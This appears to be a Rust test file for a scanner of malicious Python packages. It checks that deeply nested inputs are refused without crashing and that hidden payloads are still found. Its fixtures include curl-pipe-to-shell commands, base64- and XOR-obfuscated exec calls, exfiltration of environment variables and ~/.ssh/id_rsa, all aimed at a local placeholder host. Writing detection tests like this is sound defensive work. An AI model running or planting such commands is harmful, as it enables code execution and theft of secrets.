//! Deep input (#14): sources nested far beyond what CPython compiles. Each is analysed
//! on a thread with the default 2 MiB stack (as rayon's and the proxy's workers have)
//! and must come back as a critical finding saying the file is too deep to analyse,
//! never as a stack overflow that takes the process down.

use super::super::*;
use crate::alerts::Severity;

/// The hostile inputs of issue #14.
fn deep_inputs() -> Vec<(&'static str, String)> {
    vec![
        ("concatenation", format!("x = {}\n", vec!["'a'"; 50_000].join("+"))),
        ("nested lists", format!("x = {}{}\n", "[".repeat(50_000), "]".repeat(50_000))),
        ("not", format!("x = {}1\n", "not ".repeat(100_000))),
        ("unary minus", format!("x = {}1\n", "-".repeat(100_000))),
        ("lambda", format!("x = {}1\n", "lambda: ".repeat(50_000))),
        ("attribute chain", format!("x = a{}\n", ".a".repeat(1_000_000))),
        ("chr sum", format!("x = {}\n", (0..100_000).map(|i| format!("chr({})", i % 100 + 1)).collect::<Vec<_>>().join("+"))),
    ]
}

/// Analyses `files` on a fresh thread with a 2 MiB stack.
fn on_small_stack(files: Vec<(String, FileRole, String)>) -> Vec<Finding> {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            let sources: Vec<SourceFile> = files.iter().map(|(p, r, t)| SourceFile { path: p, text: t, role: *r }).collect();
            analyze_package(&sources, &PackageContext::default())
        })
        .expect("spawn")
        .join()
        .expect("analysis thread survives")
}

#[test]
fn deep_inputs_are_refused_not_crashed_on() {
    for (what, src) in deep_inputs() {
        // setup.py and __init__.py are always analysed; two files run on rayon's workers
        let files = vec![
            ("deep-1.0/setup.py".to_string(), FileRole::SetupScript, src.clone()),
            ("deep/__init__.py".to_string(), FileRole::PackageInit, src),
            ("deep/ok.py".to_string(), FileRole::Module, "import os\nos.getcwd()\n".to_string()),
        ];
        let f = on_small_stack(files);
        for path in ["deep-1.0/setup.py", "deep/__init__.py"] {
            let hit = f.iter().find(|x| x.file == path && x.severity() == Severity::Critical && x.message.contains("too deeply"));
            assert!(hit.is_some(), "{what} in {path}: {f:#?}");
        }
    }
}

#[test]
fn deep_inputs_name_the_limit_alert_and_block() {
    let src = format!("x = {}1\n", "not ".repeat(100_000));
    let f = on_small_stack(vec![("deep/__init__.py".to_string(), FileRole::PackageInit, src)]);
    let hit = f.iter().find(|x| x.alert == AlertId::AnalysisLimitExceeded).expect("analysis-limit-exceeded");
    assert_eq!(hit.severity(), Severity::Critical);
    assert!(hit.message.contains("not analysed"), "{}", hit.message);
}

#[test]
fn nesting_under_the_limit_is_analysed_on_a_small_stack() {
    // as deep as CPython still compiles, and the malicious line after it is still seen
    let chain = vec!["'a'"; 2_500].join("+");
    let src = format!("import os\nx = {chain}\nos.system('curl http://127.0.0.1:9/x | sh')\n");
    let f = on_small_stack(vec![("deep-1.0/setup.py".to_string(), FileRole::SetupScript, src)]);
    assert!(!f.iter().any(|x| x.alert == AlertId::AnalysisLimitExceeded), "{f:#?}");
    assert!(f.iter().any(|x| x.severity() == Severity::Critical && x.line == Some(3)), "{f:#?}");
}

#[test]
fn a_payload_nested_past_the_old_cap_is_still_seen() {
    // 250 `not`s used to stop the evaluation (at 200) and hide the call inside them
    let src = format!(
        "import base64\nx = {}exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L3ggfCBzaCIp'))\n",
        "not ".repeat(250)
    );
    let f = on_small_stack(vec![("evil/__init__.py".to_string(), FileRole::PackageInit, src)]);
    assert!(f.iter().any(|x| x.alert == AlertId::DecodeExec), "{f:#?}");
}

#[test]
fn malformed_nesting_does_not_crash_either() {
    // stray and mismatched closers, unclosed openers, nested f-strings
    let inputs = [
        "(]".repeat(50_000),
        "(]\n".repeat(50_000),
        "[)".repeat(50_000),
        format!("x = {}", "{".repeat(50_000)),
        format!("x = {}", "f'{".repeat(20_000)),
        format!("x = {}1{}", "(-".repeat(50_000), "]".repeat(50_000)),
        format!("x = {}", "a if b else ".repeat(50_000)),
        format!("def f():\n{}", (1..3_000).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>()),
    ];
    for (i, src) in inputs.into_iter().enumerate() {
        let f = on_small_stack(vec![("deep/__init__.py".to_string(), FileRole::PackageInit, src)]);
        let refused = f.iter().any(|x| x.alert == AlertId::AnalysisLimitExceeded);
        // one short line at a time (`(]` per line) is shallow: analysed, not refused
        assert_eq!(refused, i != 1, "input {i}: {f:#?}");
    }
}

/// A generated-SDK-shaped module over the slicing threshold, with behaviour spread
/// across slices: a helper called before its definition, an import alias used slices
/// later, a decorator, if/else and try/except at top level, and a canary at the end.
fn large_module() -> String {
    let mut s = String::from("import os as _o, base64\nfrom subprocess import run as _r\n\ndef main():\n    data = collect()\n    send('http://127.0.0.1:9/c', data)\n\n");
    let mut n = 0;
    while s.len() < 3 << 20 {
        s.push_str(&format!(
            "@staticmethod\ndef helper_{n}(x):\n    \"\"\"Doc {n}: (not a bracket\n    \"\"\"\n    return {{'k': x, 'n': {n}}}\n\nif _o.name == 'nt':\n    V_{n} = '''a\nb'''\nelse:\n    V_{n} = \"c\\\"d\"\ntry:\n    W_{n} = [1,\n 2]\nexcept Exception:\n    pass\n\n"
        ));
        n += 1;
    }
    s.push_str("def collect():\n    return dict(_o.environ)\n\ndef send(url, payload):\n    import urllib.request\n    urllib.request.urlopen(urllib.request.Request(url, data=str(payload).encode()))\n\n_r('curl http://127.0.0.1:9/x | sh', shell=True)\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
    s
}

/// Asserts that a walk in pieces (`sliced`) built what the whole walk built: scopes,
/// calls with their lines and labels, literals with their lines, and every finding;
/// returns the findings, rendered.
fn same_walk(sliced: &model::Model, whole: &model::Model) -> Vec<String> {
    assert_eq!(sliced.scopes.len(), whole.scopes.len());
    let calls = |m: &model::Model| m.calls.iter().map(|c| (c.q.clone(), c.line, c.labels())).collect::<Vec<_>>();
    assert_eq!(calls(sliced), calls(whole));
    let literals = |m: &model::Model| m.literals.iter().map(|l| (l.value.clone(), l.line)).collect::<Vec<_>>();
    assert_eq!(literals(sliced), literals(whole));
    let render = |f: Vec<Finding>| f.into_iter().map(|x| format!("{} {:?} {}", x.alert.id(), x.line, x.message)).collect::<Vec<_>>();
    let found = render(rules::run_detectors(sliced, 0));
    assert_eq!(found, render(rules::run_detectors(whole, 0)));
    found
}

#[test]
fn a_large_module_walked_in_slices_gives_the_whole_walk_findings() {
    let text = large_module();
    let sliced = model::build_sliced_only("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import).expect("every slice parses");
    let whole = model::build_whole("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
    let a = same_walk(&sliced, &whole);
    // the canaries at the end are found, at their own lines
    assert!(a.iter().any(|f| f.starts_with("download-exec") || f.starts_with("install-shell") || f.starts_with("import-shell")), "{a:#?}");
    let last = text.lines().count() as u32;
    assert!(sliced.calls.iter().any(|c| c.line == last), "the last line's exec is at line {last}");
}

/// A module whose statements are three displays of over a megabyte each (a list, a
/// dict and a tuple), with calls, secrets and brackets inside strings and comments
/// among their elements, and uses of the names they bind after them.
fn huge_displays_module() -> String {
    let mut s = String::from("import os, base64, urllib.request\n# a comment before the table\nTABLE = [\n");
    let mut n = 0;
    while s.len() < 3 << 19 {
        s.push_str(&format!("    'row {n} (with] brackets, and commas',  # a comment ( [\n    {n},\n"));
        n += 1;
    }
    s.push_str("    os.system('curl http://127.0.0.1:9/x | sh'),\n    dict(os.environ),\n    *base64.b64decode('cHJpbnQoMSk='),\n]\n");
    s.push_str("NAMES = {\n");
    while s.len() < 3 << 20 {
        s.push_str(&format!("    'k{n}': \"v{n} }} {{\",\n    **{{'x{n}': {n}}},\n"));
        n += 1;
    }
    s.push_str("    'home': open(os.path.expanduser('~/.ssh/id_rsa')).read(),\n}\n");
    s.push_str("CODES = (\n");
    while s.len() < 5 << 20 {
        s.push_str(&format!("    {n}, 0x{n:x}, b'\\x{:02x}',\n", n % 256));
        n += 1;
    }
    s.push_str("    __import__('subprocess').Popen,\n)\n");
    s.push_str("urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/c', data=str(TABLE).encode()))\n");
    s.push_str("urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/d', data=str(NAMES).encode()))\n");
    s
}

#[test]
fn huge_displays_walked_in_groups_give_the_whole_walk_findings() {
    let text = huge_displays_module();
    let sliced = model::build_sliced_only("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import).expect("every group parses");
    let whole = model::build_whole("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
    let a = same_walk(&sliced, &whole);
    // the calls inside the displays are found at their own lines, and the environment
    // inside TABLE reaches the network through the name
    let line_of = |needle: &str| text.lines().position(|l| l.contains(needle)).expect("in the module") as u32 + 1;
    assert!(sliced.calls.iter().any(|c| c.q == "os.system" && c.line == line_of("os.system(")), "{:?}", sliced.calls.iter().filter(|c| c.q.starts_with("os.")).map(|c| (&c.q, c.line)).collect::<Vec<_>>());
    assert!(sliced.calls.iter().any(|c| c.q == "subprocess.Popen" || c.line == line_of("__import__('subprocess')")));
    assert!(a.iter().any(|f| f.starts_with("exfiltration")), "{a:#?}");
}

#[test]
fn a_display_the_group_scan_misreads_is_walked_whole() {
    // an f-string nesting its own quotes (Python 3.12) hides a comma from the byte scan:
    // a group then does not parse, and the module is walked whole with the same result
    let mut s = String::from("import os\nx = {'a': 1}\nT = [\n");
    while s.len() < 3 << 19 {
        s.push_str("    'padding padding padding padding padding padding',\n");
    }
    s.push_str("    f\"{x[\"a, b\"]}\",\n    os.system('curl http://127.0.0.1:9/x | sh'),\n");
    while s.len() < 5 << 19 {
        s.push_str("    'padding padding padding padding padding padding',\n");
    }
    s.push_str("]\n");
    let built = model::build("pkg/__init__.py", &s, FileRole::PackageInit, ExecContext::Import);
    let whole = model::build_whole("pkg/__init__.py", &s, FileRole::PackageInit, ExecContext::Import);
    let calls = |m: &model::Model| m.calls.iter().map(|c| (c.q.clone(), c.line)).collect::<Vec<_>>();
    assert_eq!(calls(&built), calls(&whole));
    assert!(calls(&built).iter().any(|(q, _)| q == "os.system"));
    assert_eq!(built.literals.len(), whole.literals.len());
}

/// Found by the scan_archive fuzz target: 9 lines of mutated source whose recovered
/// syntax tree nests comprehensions over texts. Unrolled item by item without a bound,
/// it took 10 s and 460 MB (the fuzzer's 60 s timeout under the sanitizer).
#[test]
fn nested_comprehensions_are_unrolled_within_a_budget() {
    let fuzzed = include_str!("../../../../tests/fixtures/fuzz/scan_archive-timeout-40eb357b.py").to_string();
    let f = on_small_stack(vec![("pkg/__init__.py".to_string(), FileRole::PackageInit, fuzzed)]);
    assert!(f.iter().all(|x| x.alert != AlertId::AnalysisLimitExceeded), "{f:#?}");
    // the same shape written out: 30,000 x 30,000 evaluations unrolled in full; past the
    // budget the rest of the file is still walked
    let text = format!(
        "s = '{}'\nt = [[c for c in s] for d in s]\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n",
        "a".repeat(30_000)
    );
    let m = model::build("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
    assert!(m.calls.iter().any(|c| c.q == "os.system" && c.line == 4), "{:?}", m.calls.iter().map(|c| &c.q).collect::<Vec<_>>());
    // a decoder within the budget is still unrolled and folded
    let codes = "import os; os.system('curl http://127.0.0.1:9/y | sh')".bytes().map(|b| (b ^ 7).to_string()).collect::<Vec<_>>().join(", ");
    let text = format!("k = [{codes}]\nexec(''.join(chr(c ^ 7) for c in k))\n");
    let f = on_small_stack(vec![("pkg/__init__.py".to_string(), FileRole::PackageInit, text)]);
    assert!(f.iter().any(|x| x.message.contains("127.0.0.1:9/y") || x.evidence.contains("127.0.0.1:9/y")), "{f:#?}");
}

/// A large module that does not parse (binary bytes, as a hostile package may name a
/// blob `.py`): ruff's error recovery builds about 50 bytes of tree per byte of such
/// text, so it is walked in slices with its errors counted instead of parsed whole, and
/// the code before the junk is still found.
#[test]
fn a_large_module_that_does_not_parse_is_walked_in_slices() {
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut junk = b"import os\nos.system('curl http://127.0.0.1:9/x | sh')\n".to_vec();
    while junk.len() < 5 << 20 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        junk.extend_from_slice(&state.to_le_bytes());
    }
    // and one broken statement of 5 MB between balanced brackets, which the statement
    // scan makes a slice of its own
    let one_statement = format!("import os\nos.system('curl http://127.0.0.1:9/x | sh')\nx = ({})\n", "1 2 ".repeat(5 << 18));
    for text in [crate::analysis::decode_owned(junk), one_statement] {
        model::LONGEST_PARSE.with(|l| l.set(0));
        let m = model::build("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
        let longest = model::LONGEST_PARSE.with(|l| l.get());
        assert!(longest < 1 << 20, "parsed {longest} bytes at once of a {}-byte module", text.len());
        assert!(m.parse_errors > 0);
        assert!(m.calls.iter().any(|c| c.q == "os.system" && c.line == 2), "{:?}", m.calls.iter().take(5).map(|c| (&c.q, c.line)).collect::<Vec<_>>());
    }
}
